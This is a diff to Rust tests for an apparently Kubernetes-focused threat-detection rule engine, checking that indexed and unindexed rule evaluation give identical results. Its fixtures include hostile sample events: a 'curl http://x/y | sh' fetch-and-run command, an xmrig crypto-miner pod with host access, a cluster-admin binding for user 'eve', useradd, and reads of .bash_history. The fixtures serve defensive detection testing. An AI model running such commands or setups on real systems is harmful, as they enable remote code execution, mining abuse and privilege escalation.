@@ -172,7 +172,7 @@ fn benign_stream() -> Vec<Value> {
         "rules": [{"apiGroups": [""], "resources": ["pods", "services"], "verbs": ["get", "list", "watch"]}]}))
             .v(),
     );
-    for uri in ["/healthz", "/readyz", "/livez", "/version", "/readyz?verbose"] {
+    for uri in ["/healthz", "/readyz", "/livez", "/version", "/version?timeout=32s", "/readyz?verbose"] {
         let mut e = audit("get", "pods", None, None).user("system:anonymous").uri(uri).metadata_level().v();
         e.as_object_mut().unwrap().remove("objectRef");
         v.push(e);
@@ -192,6 +192,9 @@ fn benign_stream() -> Vec<Value> {
             "/usr/local/bin/kubelet",
         ),
         (vec!["nohup", "/usr/local/bin/agent", "--serve"], "/usr/bin/nohup"),
+        // Exec readiness probes checking a TCP port through bash.
+        (vec!["sh", "-c", "echo > /dev/tcp/127.0.0.1/6379"], "/bin/sh"),
+        (vec!["bash", "-c", "</dev/tcp/localhost/8080"], "/bin/bash"),
         (vec!["bash", "-c", "tail -n 100 /root/.bash_history"], "/bin/bash"),
     ] {
         v.push(process(&argv, exe));
@@ -248,4 +251,64 @@ fn broken_input_never_crashes() {
     assert!(stats.malformed as usize >= garbage.len() - 2, "{bad:?}");
     assert!(bad.iter().all(|m| m.source_name == "broken.jsonl" && m.line > 0));
     assert!(bad.last().unwrap().message.contains("unterminated"), "{:?}", bad.last());
+}
+
+/// The rule index only skips rules that cannot match: indexed and unindexed evaluation agree
+/// on every event, benign or not, for the catalog (and for the upstream Falco rules when
+/// `KEELWATCH_FALCO_RULES` points at them).
+#[test]
+fn rule_index_changes_no_result() {
+    use keelwatch_detect::audit::AuditEvent;
+    use keelwatch_detect::rules::load_rules;
+    let mut events = benign_stream();
+    let p = pod("x", "default", &[("c", "xmrig/xmrig:6", true)], json!({"hostPID": true, "hostNetwork": true}));
+    events.push(audit("create", "pods", Some("kube-system"), Some("x")).req(p.clone()).v());
+    events.push(audit("create", "pods", Some("default"), Some("x")).req(p).stage("ResponseStarted").v());
+    events
+        .push(audit("create", "pods", Some("default"), Some("p")).sub("exec", "?command=sh&stdin=true").code(101).v());
+    events.push(audit("get", "pods", Some("default"), Some("p")).sub("portforward", "?ports=8080").v());
+    events.push(audit("delete", "events", Some("default"), Some("e1")).v());
+    events.push(audit("list", "secrets", None, None).user("system:anonymous").v());
+    events.push(audit("list", "pods", Some("asc-alerttest-662jfi039n"), None).metadata_level().v());
+    events.push(
+        audit("create", "clusterrolebindings", None, Some("b"))
+            .req(json!({"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "eve"}]}))
+            .v(),
+    );
+    let mut empty = audit("get", "pods", None, None).v();
+    for k in ["verb", "stage", "objectRef", "user"] {
+        empty.as_object_mut().unwrap().remove(k);
+    }
+    events.push(empty);
+    for argv in [
+        vec!["./asc_alerttest_662jfi039n"],
+        vec!["xmrig", "-o", "stratum+tcp://x:1"],
+        vec!["nohup", "/tmp/.x"],
+        vec!["useradd", "eve"],
+        vec!["sh", "-c", "curl http://x/y | sh"],
+    ] {
+        events.push(process(&argv, ""));
+    }
+    let mut sets = vec![load_rules(true, &[]).unwrap()];
+    if let Ok(path) = std::env::var("KEELWATCH_FALCO_RULES") {
+        let text = std::fs::read_to_string(&path).unwrap();
+        sets.push(load_rules(false, &[(path, text)]).unwrap());
+    }
+    for rules in &sets {
+        let mut fired = 0;
+        for e in &events {
+            if e.get("pid").is_some() {
+                let ev: keelwatch_detect::ProcessEvent = serde_json::from_value(e.clone()).unwrap();
+                let (a, b) = (rules.eval_process(&ev), rules.eval_process_unindexed(&ev));
+                fired += a.len();
+                assert_eq!(a, b, "{e}");
+            } else {
+                let ev = AuditEvent::from_value(e.clone()).unwrap();
+                let (a, b) = (rules.eval_audit(&ev, 1), rules.eval_audit_unindexed(&ev, 1));
+                fired += a.len();
+                assert_eq!(a, b, "{e}");
+            }
+        }
+        assert!(fired >= 10, "the events exercise the rules ({fired} matches)");
+    }
 }
